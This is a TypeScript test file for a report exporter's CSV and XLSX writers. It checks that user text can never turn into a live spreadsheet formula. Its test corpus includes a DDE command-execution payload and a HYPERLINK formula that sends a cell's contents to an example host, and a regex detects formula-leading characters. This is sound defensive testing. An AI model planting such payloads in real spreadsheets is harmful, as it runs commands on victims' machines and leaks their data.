import { execFile } from 'node:child_process'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import fc from 'fast-check'
import { strFromU8, unzipSync } from 'fflate'
import papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { dayColumn, number, type ReportRow, text } from '#domain/reports/report-table.ts'
import { openCsv } from './csv-file.ts'
import type { OpenTableFile } from './table-file.ts'
import { openXlsx } from './xlsx-file.ts'

const columns = [text('Name', '姓名'), number('Minutes', '分钟'), dayColumn('Day', '日期')]
const write = (open: OpenTableFile, rows: readonly ReportRow[], language = 'zh'): Buffer => {
  const chunks: Uint8Array[] = []
  const file = open({ title: { en: 'Logs', zh: "日志 [1]: '草稿'/终稿" }, columns }, language, (bytes) => void chunks.push(bytes.slice()))
  for (const row of rows) file.write([row])
  file.end()
  return Buffer.concat(chunks)
}

/** What spreadsheets take for formulas, collected from advisories and from keyboards in China. */
const CORPUS = [
  '=1+1',
  '=cmd|"/C calc"!A0',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=HYPERLINK("http://example.org?"&A1,"轴颈")',
  ';=1+1',
  '"=1+1"',
  '-5',
  '=1,"+1"',
]
const DANGEROUS = /^[\s\0\u200b\ufeff]*[=+\-@＝＋－＠]/u

const linesOf = (csv: Buffer, newline: '\r\n' | '\n' = '\r\n') => papa.parse<string[]>(csv.toString('utf8').replace(/^\ufeff/, ''), { newline, skipEmptyLines: true }).data

describe('CSV', () => {
  it('begins with the mark that tells Excel its letters, and has headings in the language asked for', () => {
    const csv = write(openCsv, [['李伟', 90, '2026-03-05']])
    expect(csv.toString('utf8')).toBe('\ufeff姓名,分钟,日期\r\n李伟,90,2026-03-05\r\n')
    expect(write(openCsv, [], 'en').toString('utf8')).toBe('\ufeffName,Minutes,Day\r\n')
  })

  it.each(CORPUS)('no cell is a formula: %j', (evil) => {
    const cell = linesOf(write(openCsv, [[evil, 1, null]]))[1]?.[0] ?? ''
    expect(cell).not.toMatch(DANGEROUS)
    expect(cell.endsWith(evil.replaceAll('\r\n', '\n')) || cell === `'${evil}`).toBe(true)
  })

  it('whatever people write comes back as they wrote it, but for the apostrophe that disarms it', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.string({ unit: 'binary' }), fc.integer()), { maxLength: 8 }), (rows) => {
        const [, ...lines] = linesOf(write(openCsv, rows.map(([a, b]) => [`x${a}`, b, null])))
        expect(lines).toEqual(rows.map(([a, b]) => [`x${a}`, String(b), '']))
      }),
    )
  })
})

const sheetOf = (xlsx: Buffer): string => strFromU8(unzipSync(new Uint8Array(xlsx))['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
const ENTITIES: Readonly<Record<string, string>> = { '&amp;': '&', '&lt;': '<', '&gt;': '>', '&quot;': '"', '&#13;': '\r' }
const textsOf = (xml: string) => [...xml.matchAll(/<t xml:space="preserve">([^<]*)<\/t>/g)].map(([, t = '']) => t.replaceAll(/&[^;]+;/g, (e) => ENTITIES[e] ?? e).replaceAll('_x005F_', '_'))

describe('XLSX', () => {
  it('types each cell, freezes the heading, and is the same file for the same rows', () => {
    const xlsx = write(openXlsx, [['李伟', 90.5, '2026-03-05'], [null, -3, null]])
    const xml = sheetOf(xlsx)
    expect(xml).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>')
    expect(xml).toContain('<row r="2"><c r="A2" s="1" t="inlineStr"><is><t xml:space="preserve">李伟</t></is></c><c r="B2" s="2"><v>90.5</v></c><c r="C2" s="3"><v>46086</v></c></row><row r="3"><c r="B3" s="2"><v>-3</v></c></row>')
    expect(write(openXlsx, [['李伟', 90.5, '2026-03-05'], [null, -3, null]]).equals(xlsx)).toBe(true)
  })

  it('never holds a formula, whatever people write, and gives it back letter by letter', () => {
    // eslint-disable-next-line no-control-regex -- what XML cannot hold is another test
    const readable = fc.string({ unit: 'binary' }).map((s) => s.replaceAll(/[\0-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]|\p{Surrogate}/gu, ''))
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.constantFrom(...CORPUS.map((c) => c.replaceAll('\0', ''))), fc.constantFrom('</t></is></c><c><f>1+1</f></c>', '_x0041_', ']]>'), readable), { minLength: 1, maxLength: 8 }), (words) => {
        const xml = sheetOf(write(openXlsx, words.map((w) => [w, null, w])))
        expect(xml).not.toMatch(/<f[ >/]/)
        expect(textsOf(xml).slice(3)).toEqual(words.flatMap((w) => [w, w]))
      }),
    )
  })

  it('one letter that XML cannot hold does not spoil the workbook', () => {
    expect(textsOf(sheetOf(write(openXlsx, [['a\0b\ud800c', null, null]])))[3]).toBe('a\ufffdb\ufffdc')
  })
})

const run = promisify(execFile)
const office = await run('soffice', ['--version']).then(() => 'soffice', () => null)
if (office === null) process.stderr.write('skipped: no LibreOffice (soffice) here, so no spreadsheet program opens the files of the reports\n')

describe.skipIf(office === null)('LibreOffice', () => {
  it('opens both: Chinese is right, numbers and days are typed, and nothing is calculated', { timeout: 120_000 }, async () => {
    const folder = await mkdtemp(join(tmpdir(), 'craftlog-office-'))
    const words = [...CORPUS.filter((c) => !/[\0\r\n\t]/.test(c)), '轴颈直径 130.02 mm，合格']
    const rows = words.map((w, n): ReportRow => [w, n, '2026-03-05'])
    await writeFile(join(folder, 'a.xlsx'), write(openXlsx, rows))
    await writeFile(join(folder, 'b.csv'), write(openCsv, rows))
    // 44 comma, 34 quote, 76 UTF-8; the last: of a formula its result, so that one would show as 2.
    const filter = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false'
    for (const [file, out] of [['a.xlsx', 'from-xlsx'], ['b.csv', 'from-csv']] as const)
      await run('soffice', [`-env:UserInstallation=file://${folder}/profile`, '--headless', ...(file === 'b.csv' ? ['--infilter=Text - txt - csv (StarCalc):44,34,76,1'] : []), '--convert-to', filter, '--outdir', join(folder, out), join(folder, file)])
    const fromXlsx = linesOf(await readFile(join(folder, 'from-xlsx', 'a.csv')), '\n')
    const fromCsv = linesOf(await readFile(join(folder, 'from-csv', 'b.csv')), '\n')
    expect(fromXlsx[0]).toEqual(['姓名', '分钟', '日期'])
    expect(fromXlsx.slice(1).map((l) => l[0])).toEqual(words)
    expect(fromXlsx.slice(1).map((l) => l[1])).toEqual(words.map((_, n) => String(n)))
    expect(new Set(fromXlsx.slice(1).map((l) => l[2]))).toEqual(new Set([expect.stringMatching(/2026|26/)]))
    for (const [n, line] of fromCsv.slice(1).entries()) expect([words[n], `'${words[n]}`]).toContain(line[0])
    await rm(folder, { recursive: true, force: true })
  })
})
